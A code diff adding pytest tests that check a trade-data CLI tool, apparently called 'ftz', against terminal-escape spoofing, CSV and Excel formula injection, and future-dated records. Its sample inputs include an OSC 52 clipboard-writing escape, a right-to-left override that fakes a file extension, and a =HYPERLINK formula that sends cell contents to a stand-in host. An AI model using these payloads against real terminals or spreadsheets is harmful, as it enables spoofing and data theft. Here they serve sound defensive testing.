@@ -126,3 +126,148 @@ def test_a_fullwidth_colon_is_named(ftz, ws: Path) -> None:
     checked = ftz("--data", str(ws), "validate")
     clean(checked)
     assert "updates/2021-04.yaml:2:7: 错误 E101 字段名后用了中文冒号“：”" in checked.stderr
+
+
+# -- 3. text that cannot spoof ---------------------------------------------------------
+
+SPOOF = {
+    "osc52": "\x1b]52;c;ZWNobyBwd25lZA==\x07",  # writes the clipboard of a terminal
+    "nul": "a\x00b",
+    "c1": "a\x9bb",
+    "rtl": "invoice\u202efdp.exe",
+    "zero-width": "a\u200bb",
+    "bare-cr": "good\rBAD!",
+}
+
+
+@pytest.mark.parametrize("name", SPOOF)
+def test_invisible_characters_are_refused_in_new_input(ftz, ws: Path, name: str) -> None:
+    before = snapshot(ws)
+    result = ftz("--data", str(ws), "update", FLOW, "--value", "1", "--date", "2021-03-31",
+                 "--note", SPOOF[name])
+    clean(result)
+    assert result.exit_code == 1 and "E231" in result.stderr and "note" in result.stderr
+    assert SPOOF[name] not in result.stderr
+    assert snapshot(ws) == before
+
+
+def test_invisible_characters_are_refused_in_an_import(ftz, ws: Path, tmp_path: Path) -> None:
+    sheet = tmp_path / "in.csv"
+    sheet.write_text(f"id,date,value,by\n{FLOW},2021-03-31,1,\"x\u202ey\"\n", encoding="utf-8")
+    before = snapshot(ws)
+    result = ftz("--data", str(ws), "import", str(sheet))
+    clean(result)
+    assert result.exit_code == 1 and "in.csv:2:" in result.stderr and "E231" in result.stderr
+    assert "双向文字控制符" in result.stderr and snapshot(ws) == before
+
+
+def _old_record(ws: Path, note: str) -> None:
+    """A record written before ftz refused such text (JSON escapes are YAML escapes)."""
+    (ws / "updates" / "2021-04.yaml").write_text(
+        f"- id: {FLOW}\n  date: 2021-03-31\n  value: 1\n  note: {json.dumps(note)}\n"
+        f"  by: {json.dumps(note)}\n", encoding="utf-8")
+
+
+@pytest.mark.parametrize("name", SPOOF)
+def test_old_data_is_printed_escaped(ftz, ws: Path, name: str, tmp_path: Path) -> None:
+    note = SPOOF[name]
+    _old_record(ws, note)
+    assert ftz("--data", str(ws), "validate").exit_code == 0  # old data stays readable
+    [stored] = history(ftz, ws, FLOW)
+    assert stored["note"] == note  # JSON keeps it exactly (escaped the JSON way)
+    text = ftz("--data", str(ws), "show", FLOW)
+    assert note not in text.stdout and "\\u" in text.stdout
+    bad = set(note) - set("abgoodBAD!invoicefdp.exe]52;cZWNobyBwd25lZA==")
+    for args in (["show", FLOW], ["report", "--as-of", "2021-04-30"],
+                 ["report", "--as-of", "2021-04-30", "-f", "html"],
+                 ["list", "--format", "csv"], ["list", "--format", "json"], ["list"]):
+        out = ftz("--data", str(ws), *args)
+        assert out.exit_code == 0, (args, out.stderr)
+        assert not bad & set(out.stdout), args
+    weekly = tmp_path / "wk"
+    assert ftz("--data", str(ws), "weekly", "--from", "2021-04-01", "--to", "2021-04-07",
+               "--out", str(weekly), "-f", "html", "-f", "md").exit_code == 0
+    for page in weekly.glob("*.*"):
+        if page.suffix in (".md", ".html"):
+            assert not bad & set(page.read_text(encoding="utf-8")), page
+
+
+def test_a_plan_title_with_an_escape_sequence_is_shown_escaped(ftz, ws: Path, tmp_path: Path) -> None:
+    plan = ws / "targets.yaml"
+    plan.write_text(plan.read_text(encoding="utf-8").replace(
+        "    title: 2021年进出口额超3500亿元\n", '    title: "\\e[2J2021年进出口额\\u202e超3500亿元"\n', 1),
+        encoding="utf-8")
+    for args in (["list"], ["list", "--format", "csv"], ["show", FLOW]):
+        out = ftz("--data", str(ws), *args)
+        assert out.exit_code == 0 and "\x1b" not in out.stdout and "\u202e" not in out.stdout, args
+        assert "\\u001b[2J" in out.stdout
+    sheet = tmp_path / "s.xlsx"
+    made = ftz("--data", str(ws), "sheet", "-o", str(sheet))
+    assert made.exit_code == 0, made.stderr  # a workbook cannot hold ESC: never an internal error
+
+
+# -- 6. formula-safe exports -----------------------------------------------------------
+
+FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+
+
+def _titled(ws: Path, title: str) -> None:
+    plan = ws / "targets.yaml"
+    plan.write_text(plan.read_text(encoding="utf-8").replace(
+        "    title: 2021年进出口额超3500亿元\n", f"    title: {json.dumps(title)}\n", 1), encoding="utf-8")
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_a_formula_title_is_text_in_the_csv(ftz, ws: Path, title: str) -> None:
+    import csv
+    import io
+
+    _titled(ws, title)
+    result = ftz("--data", str(ws), "list", "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
+    stored = {r["id"]: r["title"] for r in json.loads(
+        ftz("--data", str(ws), "list", "--format", "json").stdout)}[FLOW]
+    assert stored.startswith(("=", "+", "-", "@", "\t", "\r"))  # the plan keeps it (stripped)
+    assert rows[FLOW]["title"] == "'" + stored.replace("\r", "\\u000d")
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_a_formula_title_is_text_in_the_sheet(ftz, ws: Path, tmp_path: Path, title: str) -> None:
+    import zipfile
+
+    import openpyxl
+
+    _titled(ws, title)
+    out = tmp_path / "s.xlsx"
+    result = ftz("--data", str(ws), "sheet", "-o", str(out))
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(out) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    book = openpyxl.load_workbook(out)
+    [cell] = [row[2] for row in book.worksheets[0].iter_rows(min_row=2) if row[0].value == FLOW]
+    assert cell.data_type == "s" and cell.quotePrefix
+    assert cell.value.replace("\\u000d", "\r").startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+# -- 8. honest clocks ------------------------------------------------------------------
+
+def test_a_record_dated_after_this_pcs_today_is_a_warning(ftz, ws: Path,
+                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    import datetime as dt
+
+    (ws / "updates" / "2021-04.yaml").write_text(
+        f"- id: {FLOW}\n  date: 2021-04-30\n  value: 1200\n  recorded_at: 2021-04-30T10:00:00+08:00\n",
+        encoding="utf-8")
+    monkeypatch.setattr("ftz_cli.parse.dates.today", lambda: dt.date(2021, 4, 20))
+    for module in ("validate", "list_", "show", "report", "record"):
+        monkeypatch.setattr(f"ftz_cli.commands.{module}.today", lambda: dt.date(2021, 4, 20))
+    checked = ftz("--data", str(ws), "validate")
+    assert checked.exit_code == 0, checked.stderr
+    assert "updates/2021-04.yaml:2:9: 警告 W221" in checked.stderr
+    listed = ftz("--data", str(ws), "list", "--as-of", "2021-05-01", "--format", "json")
+    assert listed.exit_code == 0
+    assert {r["id"]: r["value"] for r in json.loads(listed.stdout)}[FLOW] == 1200
+    # new input dated after today is still refused
+    new = ftz("--data", str(ws), "update", FLOW, "--value", "2", "--date", "2021-04-25")
+    assert new.exit_code == 1 and "E209" in new.stderr
